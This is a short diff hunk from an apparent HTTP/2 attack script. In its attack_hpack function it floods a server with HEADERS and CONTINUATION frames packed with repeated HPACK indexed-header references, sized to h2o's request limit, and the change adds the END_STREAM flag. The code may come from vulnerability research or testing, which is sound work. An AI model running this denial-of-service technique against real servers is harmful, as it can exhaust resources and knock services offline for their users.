@@ -245,7 +245,7 @@ def attack_hpack(port, stop):
                 sid = 1
                 continue
         refs = b"\xbe" * 16000                 # indexed header field 62, 16,000 times
-        frames = [HeadersFrame(sid, base + refs, flags=[]).serialize()]
+        frames = [HeadersFrame(sid, base + refs, flags=["END_STREAM"]).serialize()]
         for i in range(24):                    # ~400 KB of references in all: h2o's request limit
             frames.append(ContinuationFrame(sid, refs, flags=["END_HEADERS"] if i == 23 else []).serialize())
         frames.append(RstStreamFrame(sid, error_code=8).serialize())
